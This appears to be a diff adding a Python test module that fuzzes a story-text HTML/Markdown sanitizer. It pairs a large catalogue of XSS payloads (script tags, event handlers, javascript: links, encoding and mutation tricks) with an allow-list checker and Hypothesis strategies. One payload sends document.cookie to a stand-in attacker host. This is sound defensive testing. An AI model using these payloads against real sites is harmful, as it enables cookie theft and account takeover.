@@ -1,0 +1,156 @@
+"""What somebody would write into a story to harm whoever reads it, and a judge that shares no code with the cleaner."""
+
+from html.parser import HTMLParser
+from itertools import product
+from urllib.parse import urlsplit
+
+from hypothesis import strategies as st
+
+# What a script would be hidden in, by the ways known to work against one browser or cleaner or another.
+DEEDS = (
+    "alert(1)",
+    "fetch('https://evil.example/'+document.cookie)",
+    "location='https://evil.example'",
+    "eval(atob('YWxlcnQoMSk='))",
+    "top['al'+'ert'](1)",
+)
+TAGS = (
+    "<script>{}</script>",
+    "<SCRIPT>{}</SCRIPT>",
+    "<scr<script>ipt>{}</scr</script>ipt>",
+    "<script/x>{}</script >",
+    "<script\n>{}</script\n>",
+    "<script src=https://evil.example/x.js>{}</script>",
+    "<img src=x onerror={}>",
+    "<img src=x onerror\n=\n{}>",
+    "<img/src=x/onerror={}>",
+    '<img """><script>{}</script>">',
+    "<img src=`x` onerror=`{}`>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
+    "<svg><style><img src=x onerror={}></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
+    "<math href='javascript:{}'>x</math>",
+    "<body onload={}>",
+    "<input autofocus onfocus={}>",
+    "<details open ontoggle={}>x</details>",
+    "<video><source onerror={}></video>",
+    "<audio src=x onerror={}>",
+    "<iframe src='javascript:{}'></iframe>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    "<object data='javascript:{}'></object>",
+    "<embed src='javascript:{}'>",
+    "<form action='javascript:{}'><button>x</button></form>",
+    "<button formaction='javascript:{}' form=x>x</button>",
+    "<a href='javascript:{}'>x</a>",
+    "<a href='jav&#x09;ascript:{}'>x</a>",
+    "<a href='&#106;avascript:{}'>x</a>",
+    "<a href=' javascript:{}'>x</a>",
+    "<base href='javascript:{}//'>",
+    "<link rel=stylesheet href='javascript:{}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<style>@import 'javascript:{}';</style>",
+    "<p style='background:url(javascript:{})'>x</p>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<textarea></textarea><img src=x onerror={}>",
+    "<title></title><script>{}</script>",
+    "<!--><script>{}</script>-->",
+    "<!-- --!><img src=x onerror={}>",
+    "<![CDATA[<script>{}</script>]]>",
+    "<?xml version='1.0'?><script>{}</script>",
+    "<template><script>{}</script></template>",
+    "<marquee onstart={}>x</marquee>",
+    "<p hx-get='/accounts/logout/' hx-trigger=load hx-on:load='{}'>x</p>",
+    "<p data-hx-post='/letters/read/' data-hx-trigger=revealed title='{}'>x</p>",
+    "<p id=main class=answer onclick={} popovertarget=remind>x</p>",
+)
+MARKS = (
+    "[x](javascript:{})",
+    "[x](JaVaScRiPt:{})",
+    "[x](java\tscript:{})",
+    "[x](&#106;avascript:{})",
+    "[x](%6aavascript:{})",
+    "[x](vbscript:{})",
+    "[x](data:text/html,<script>{}</script>)",
+    "[x](data:text/html;base64,{})",
+    "[x](file:///etc/passwd?{})",
+    "[x](//evil.example/?{})",
+    "[x](/accounts/logout/?{})",
+    "[x](https://evil.example 'onmouseover={}')",
+    '[x](https://evil.example/"onmouseover={}")',
+    "[x](<javascript:{}>)",
+    "<javascript:{}>",
+    "<https://evil.example/'onclick={}>",
+    "![x](javascript:{})",
+    "![x](https://evil.example/pixel.gif?{})",
+    "![x](x 'onerror={}')",
+    "[x]: javascript:{}\n\n[x]",
+    "[x]: https://evil.example/'onclick={}\n\n[x]",
+    "`</code><script>{}</script>`",
+    "```\n</code></pre><script>{}</script>\n```",
+    "```\"onclick={}\nx\n```",
+    "> <script>{}</script>",
+    "- <img src=x onerror={}>",
+    "# <svg onload={}>",
+    "**<script>{}</script>**",
+    "[<img src=x onerror={}>](https://evil.example)",
+    "&lt;script&gt;{}&lt;/script&gt;",
+)
+ATTACKS = tuple(shape.format(deed) for shape, deed in product(TAGS + MARKS, DEEDS))
+
+ALLOWED = {
+    **dict.fromkeys("blockquote br code em h3 h4 hr li p pre strong ul".split(), set[str]()),
+    "a": {"href", "rel"},
+    "ol": {"start"},
+}
+
+
+class Judge(HTMLParser):
+    """Every tag, attribute and address that should not be there."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.wrong: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        names = ALLOWED.get(tag)
+        if names is None:
+            self.wrong.append(tag)
+            return
+        self.wrong += [f"{tag} {name}" for name, _ in attrs if name not in names]
+        said = dict(attrs)
+        if tag == "a" and not _leads_out(said):
+            self.wrong.append(f"a {said}")
+
+    def handle_comment(self, data: str) -> None:
+        self.wrong.append("a comment")
+
+    def handle_decl(self, decl: str) -> None:
+        self.wrong.append("a declaration")
+
+    def handle_pi(self, data: str) -> None:
+        self.wrong.append("an instruction")
+
+    unknown_decl = handle_decl
+
+
+def _leads_out(said: dict[str, str | None]) -> bool:
+    scheme = urlsplit(said.get("href") or "").scheme
+    return scheme in ("http", "https", "mailto") and said.get("rel") == "nofollow noopener noreferrer"
+
+
+def wrong_in(html: str) -> list[str]:
+    judge = Judge()
+    judge.feed(html)
+    judge.close()
+    return judge.wrong
+
+
+# Pieces that mean something to one of the two readers, in any order and depth, and any text between them.
+PIECES = st.sampled_from(
+    [*ATTACKS, *TAGS, *MARKS]
+    + "< > & \" ' ` * _ # [ ] ( ) ! \\ / : = \n \t \x00 \u2028 \ufeff <a <a href= </a> <p </p> &#x &#60 <!-- --> ]]> ~~~ ``` > - 1.".split(" ")
+)
+WRITTEN = st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=14).map("".join)
